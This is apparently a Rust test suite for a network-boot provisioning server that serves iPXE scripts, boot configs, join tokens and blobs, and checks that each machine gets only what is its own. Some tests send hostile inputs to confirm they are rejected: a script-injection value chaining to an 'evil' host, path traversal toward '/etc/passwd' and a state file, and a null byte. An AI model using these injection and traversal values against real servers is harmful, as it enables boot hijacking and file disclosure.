//! What machines on the provisioning network get, and what they do not get.

use axum::http::header;
use boot_proto::boot_config::{BootConfig, JoinToken};
use boot_proto::report::{BootReport, MachineFacts, Phase, Progress};

use super::*;

fn report(mac: &str, phase: Phase, progress: Progress, uptime_ms: u64) -> BootReport {
    BootReport {
        version: 1,
        mac: mac.parse().unwrap(),
        phase,
        progress,
        percent: None,
        uptime_ms,
        elapsed_ms: 100,
        message: String::new(),
        log: String::new(),
        facts: None,
        phases: Vec::new(),
    }
}

fn json(report: &BootReport) -> String {
    serde_json::to_string(report).unwrap()
}

const ONE_MAC: &str = "94-57-a5-d3-ec-01";

#[tokio::test]
async fn scripts() {
    let bench = Bench::new().await;
    let (status, text) = bench.get(STRANGER, "/boot.ipxe").await;
    assert_eq!(status, StatusCode::OK);
    assert!(
        text.contains("chain --autofree http://10.77.0.1:8080/ipxe?mac="),
        "{text}"
    );

    let query = format!("/ipxe?mac={ONE_MAC}&uuid=&serial=x&arch=x86_64&platform=pcbios");
    let (status, text) = bench.get(ONE, &query).await;
    assert_eq!(status, StatusCode::OK);
    let kernel = format!(
        "kernel --name vmlinuz http://10.77.0.1:8080/blobs/sha256/{} initrd=initramfs.img console=tty0 \
         console=ttyS0,115200n8 quiet moonfarm.server=http://10.77.0.1:8080 \
         moonfarm.machine=one BOOTIF=01-94-57-a5-d3-ec-01 ||",
        Digest::of(KERNEL).hex()
    );
    assert!(text.contains(&kernel), "{text}");
    let boot = bench.app.boots.list().pop().unwrap();
    assert_eq!(
        (boot.machine.as_deref(), boot.phase.as_str()),
        (Some("one"), "script")
    );
    assert_eq!(
        (boot.image, boot.firmware.as_deref()),
        (Some(bench.image), Some("bios"))
    );
}

#[tokio::test]
async fn a_script_that_boots_nothing_says_why() {
    let bench = Bench::new().await;
    let unknown = "/ipxe?mac=94-57-a5-d3-ec-99";
    for (address, path, why) in [
        (STRANGER, unknown, "no Machine has MAC 94:57:a5:d3:ec:99"),
        (
            POOLLESS,
            "/ipxe?mac=94-57-a5-d3-ec-03",
            "belongs to no NodePool",
        ),
        (STRANGER, "/ipxe", "nobody has 10.77.0.200"),
    ] {
        let (status, text) = bench.get(address, path).await;
        assert_eq!(status, StatusCode::OK, "{path}");
        assert!(
            text.starts_with("#!ipxe\n") && text.contains(why),
            "{path}: {text}"
        );
        assert!(!text.contains("kernel "), "{text}");
    }
    bench.app.images.remove(&bench.image).unwrap();
    let (_, text) = bench.get(ONE, &format!("/ipxe?mac={ONE_MAC}")).await;
    assert!(text.contains("there is no image"), "{text}");
    let (status, _) = bench.get(ONE, "/ipxe?mac=%24%7Bfoo%7D").await;
    assert_eq!(status, StatusCode::BAD_REQUEST);
}

#[tokio::test]
async fn hostile_values_do_not_reach_a_script() {
    let bench = Bench::new().await;
    let hostile = "x%0Achain%20http%3A%2F%2Fevil%2F%20%7C%7C%20%24%7Buuid%7D";
    let path = format!(
        "/ipxe?mac={ONE_MAC}&uuid={hostile}&serial={hostile}&arch={hostile}&platform={hostile}"
    );
    let (status, text) = bench.get(ONE, &path).await;
    assert_eq!(status, StatusCode::OK);
    assert!(!text.contains("evil"), "{text}");
    let (_, text) = bench
        .get(STRANGER, &format!("/ipxe?serial={hostile}"))
        .await;
    assert!(!text.contains("evil"), "{text}");
}

#[tokio::test]
async fn nothing_is_remembered_of_a_client_that_only_says_who_it_is() {
    let bench = Bench::new().await;
    let before = bench.app.farm.machines().len();
    for mac in [ONE_MAC, "02-00-00-00-00-77"] {
        let (status, text) = bench.get(STRANGER, &format!("/ipxe?mac={mac}")).await;
        assert_eq!(status, StatusCode::OK);
        assert!(text.starts_with("#!ipxe\n"), "{text}");
    }
    assert!(bench.app.boots.list().is_empty());
    assert_eq!(bench.app.farm.machines().len(), before);
}

#[tokio::test]
async fn nobody_gets_what_is_anothers() {
    let bench = Bench::new().await;
    for path in [
        "/ipxe?mac=94-57-a5-d3-ec-01".to_owned(),
        "/v1/boot-config?mac=94:57:a5:d3:ec:01".to_owned(),
    ] {
        let (status, text) = bench.get(TWO, &path).await;
        assert_eq!(status, StatusCode::FORBIDDEN, "{path}: {text}");
        assert!(text.contains("belongs to machine two"), "{text}");
    }
    let (status, _) = bench
        .post(TWO, "/v1/join-token?mac=94:57:a5:d3:ec:01", "")
        .await;
    assert_eq!(status, StatusCode::FORBIDDEN);
    let foreign = json(&report(ONE_MAC, Phase::Image, Progress::Done, 1));
    assert_eq!(
        bench.post(TWO, "/v1/report", &foreign).await.0,
        StatusCode::FORBIDDEN
    );
    assert!(bench.app.boots.list().is_empty());
    // An address that this server gave to nobody.
    let (status, text) = bench
        .get(STRANGER, "/v1/boot-config?mac=94:57:a5:d3:ec:01")
        .await;
    assert_eq!(status, StatusCode::FORBIDDEN);
    assert!(text.contains("nobody has 10.77.0.200"), "{text}");
    assert!(bench.api.world().calls.is_empty());
}

#[tokio::test]
async fn the_boot_config_of_the_machine_that_asks() {
    let bench = Bench::new().await;
    for path in ["/v1/boot-config", "/v1/boot-config?mac=94:57:a5:d3:ec:01"] {
        let (status, text) = bench.get(ONE, path).await;
        assert_eq!(status, StatusCode::OK, "{text}");
        let config: BootConfig = serde_json::from_str(&text).unwrap();
        assert_eq!(config.hostname, "one");
        assert_eq!(config.network.address, Some(ONE));
        assert_eq!((config.network.prefix, config.network.dhcp), (24, false));
        assert_eq!(config.image.digest, bench.image);
        let join = config.join.unwrap();
        assert_eq!(
            (join.cluster.as_str(), join.labels["rack"].as_str()),
            ("main", "r1")
        );
    }
    let (status, text) = bench.get(POOLLESS, "/v1/boot-config").await;
    assert_eq!(status, StatusCode::NOT_FOUND);
    assert!(text.contains("belongs to no NodePool"), "{text}");
}

#[tokio::test]
async fn from_reports_to_a_token_to_ready() {
    let bench = Bench::new().await;
    let mut config = report(ONE_MAC, Phase::Config, Progress::Done, 3000);
    config.facts = Some(MachineFacts {
        macs: vec!["94:57:a5:d3:ec:01".parse().unwrap()],
        cpus: 2,
        memory_bytes: 1 << 30,
        ..MachineFacts::default()
    });
    let (status, text) = bench.post(ONE, "/v1/report", &json(&config)).await;
    assert_eq!((status, text.as_str()), (StatusCode::NO_CONTENT, ""));
    let machine = bench
        .app
        .farm
        .machines()
        .into_iter()
        .find(|machine| machine.name == "one")
        .unwrap();
    assert_eq!(machine.status.facts.cpus, 2);

    let (status, text) = bench
        .post(ONE, "/v1/join-token?mac=94:57:a5:d3:ec:01", "")
        .await;
    assert_eq!(status, StatusCode::OK, "{text}");
    let token: JoinToken = serde_json::from_str(&text).unwrap();
    assert_eq!(token.token.len(), 23);
    let request = Request::post("/v1/join-token").body(Body::empty()).unwrap();
    let again = bench.ask(ONE, request).await;
    assert_eq!(again.status(), StatusCode::TOO_MANY_REQUESTS);
    assert!(again.headers().contains_key(header::RETRY_AFTER));

    bench.api.put_node("one", true, "");
    let join = json(&report(ONE_MAC, Phase::Join, Progress::Done, 30_000));
    assert_eq!(
        bench.post(ONE, "/v1/report", &join).await.0,
        StatusCode::NO_CONTENT
    );
    let latest = || bench.app.boots.latest(ONE_MAC.parse().unwrap()).unwrap();
    tokio::time::timeout(std::time::Duration::from_secs(10), async {
        while latest().outcome != "ready" {
            tokio::time::sleep(std::time::Duration::from_millis(10)).await;
        }
    })
    .await
    .unwrap();
    assert!(bench.api.world().secrets.is_empty());

    // What runs on the node now has the node's address, and gets nothing by it.
    let (status, text) = bench.get(ONE, "/v1/boot-config").await;
    assert_eq!(status, StatusCode::FORBIDDEN, "{text}");
    assert!(text.contains("finished booting"), "{text}");
    assert_eq!(
        bench.post(ONE, "/v1/join-token", "").await.0,
        StatusCode::FORBIDDEN
    );
    // Until it boots again.
    bench.get(ONE, &format!("/ipxe?mac={ONE_MAC}")).await;
    assert_eq!(bench.get(ONE, "/v1/boot-config").await.0, StatusCode::OK);
}

#[tokio::test]
async fn a_cluster_that_is_away_and_a_machine_without_one() {
    let bench = Bench::new().await;
    bench.api.world().is_away = true;
    let request = Request::post("/v1/join-token").body(Body::empty()).unwrap();
    let response = bench.ask(ONE, request).await;
    assert_eq!(response.status(), StatusCode::SERVICE_UNAVAILABLE);
    assert!(response.headers().contains_key(header::RETRY_AFTER));
    assert_eq!(
        bench.post(TWO, "/v1/join-token", "").await.0,
        StatusCode::NOT_FOUND
    );
    // A machine that joins nothing has arrived when it leaves the initramfs.
    let arrived = json(&report(
        "94-57-a5-d3-ec-02",
        Phase::SwitchRoot,
        Progress::Done,
        9000,
    ));
    bench.post(TWO, "/v1/report", &arrived).await;
    assert_eq!(bench.app.boots.list().pop().unwrap().outcome, "ready");
}

#[tokio::test]
async fn reports_that_are_none() {
    let bench = Bench::new().await;
    let right = json(&report(ONE_MAC, Phase::Image, Progress::Done, 1));
    for (body, expected) in [
        (String::new(), StatusCode::BAD_REQUEST),
        ("{}".into(), StatusCode::BAD_REQUEST),
        (
            right.replace("\"version\":1", "\"version\":2"),
            StatusCode::BAD_REQUEST,
        ),
        (
            right.replace("\"version\":1", "\"version\":1,\"more\":1"),
            StatusCode::BAD_REQUEST,
        ),
        (" ".repeat(300_000), StatusCode::PAYLOAD_TOO_LARGE),
    ] {
        let (status, text) = bench.post(ONE, "/v1/report", &body).await;
        assert_eq!(status, expected, "{text}");
        assert!(text.contains("\"error\""), "{text}");
    }
}

#[tokio::test]
async fn blobs_whole_in_parts_and_not_at_all() {
    let bench = Bench::new().await;
    let path = format!("/blobs/sha256/{}", Digest::of(ROOT).hex());
    let etag = format!("\"{}\"", Digest::of(ROOT));
    let request = |method: &str, name: &str, value: &str| {
        let request = Request::builder().method(method).uri(&path);
        let request = if name.is_empty() {
            request
        } else {
            request.header(name, value)
        };
        request.body(Body::empty()).unwrap()
    };
    for (method, name, value, status, body, range) in [
        ("GET", "", "", 200, "0123456789", None),
        ("HEAD", "", "", 200, "", None),
        (
            "GET",
            "range",
            "bytes=2-4",
            206,
            "234",
            Some("bytes 2-4/10"),
        ),
        ("GET", "range", "bytes=8-", 206, "89", Some("bytes 8-9/10")),
        ("GET", "range", "bytes=-1", 206, "9", Some("bytes 9-9/10")),
        ("GET", "range", "bytes=10-", 416, "", Some("bytes */10")),
        ("GET", "range", "lines=1-2", 200, "0123456789", None),
        ("GET", "if-none-match", etag.as_str(), 304, "", None),
        ("GET", "if-match", "\"x\"", 412, "", None),
    ] {
        let response = bench.ask(ONE, request(method, name, value)).await;
        let headers = response.headers().clone();
        let (found, text) = text(response).await;
        assert_eq!(
            (found.as_u16(), text.as_str()),
            (status, body),
            "{method} {name} {value}"
        );
        assert_eq!(headers[header::ETAG], etag.as_str());
        let content_range = headers
            .get(header::CONTENT_RANGE)
            .map(|value| value.to_str().unwrap());
        assert_eq!(content_range, range, "{value}");
        if status == 200 {
            assert_eq!(headers[header::CONTENT_LENGTH], "10");
            assert_eq!(headers[header::ACCEPT_RANGES], "bytes");
        }
    }
    for path in [
        format!("/blobs/sha256/{}", "0".repeat(64)),
        format!("/blobs/sha256/{}", Digest::of(ROOT).hex().to_uppercase()),
        "/blobs/sha256/..%2F..%2F..%2Fstate.redb".into(),
        "/blobs/sha256/".into(),
    ] {
        assert_eq!(
            bench.get(ONE, &path).await.0,
            StatusCode::NOT_FOUND,
            "{path}"
        );
    }
}

#[tokio::test]
async fn a_kernel_that_went_out_moves_the_boot() {
    let bench = Bench::new().await;
    bench.get(ONE, &format!("/ipxe?mac={ONE_MAC}")).await;
    let (_, text) = bench
        .get(ONE, &format!("/blobs/sha256/{}", Digest::of(KERNEL).hex()))
        .await;
    assert_eq!(text.as_bytes(), KERNEL);
    assert_eq!(bench.app.boots.list().pop().unwrap().phase, "kernel");
}

#[tokio::test]
async fn loaders_of_the_folder_and_nothing_else() {
    let bench = Bench::new().await;
    let folder = bench.dir.path().join("loaders");
    std::fs::create_dir_all(folder.join("deeper")).unwrap();
    std::fs::write(folder.join("snponly.efi"), "loader").unwrap();
    std::fs::write(folder.join(".hidden"), "x").unwrap();
    let request = Request::get("/loaders/snponly.efi")
        .body(Body::empty())
        .unwrap();
    let response = bench.ask(STRANGER, request).await;
    assert_eq!(response.headers()[header::CONTENT_TYPE], "application/efi");
    assert_eq!(text(response).await.1, "loader");
    for name in [
        "none.efi",
        "deeper",
        ".hidden",
        "..%2Fstate.redb",
        "%2Fetc%2Fpasswd",
        "a%00b",
    ] {
        let (status, _) = bench.get(STRANGER, &format!("/loaders/{name}")).await;
        assert_eq!(status, StatusCode::NOT_FOUND, "{name}");
    }
}
